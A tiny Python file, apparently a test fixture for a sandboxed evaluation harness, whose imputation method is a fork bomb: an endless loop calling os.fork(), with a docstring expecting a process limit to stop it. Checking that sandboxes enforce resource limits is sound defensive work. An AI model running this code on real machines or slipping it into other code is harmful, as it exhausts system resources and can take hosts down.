"""A fork bomb.

Expected: limit.
"""

import os
import numpy as np


class Method:
    def __init__(self, seed, device):
        pass

    def impute(self, x, categorical):
        while True:
            try:
                os.fork()
            except OSError:
                pass
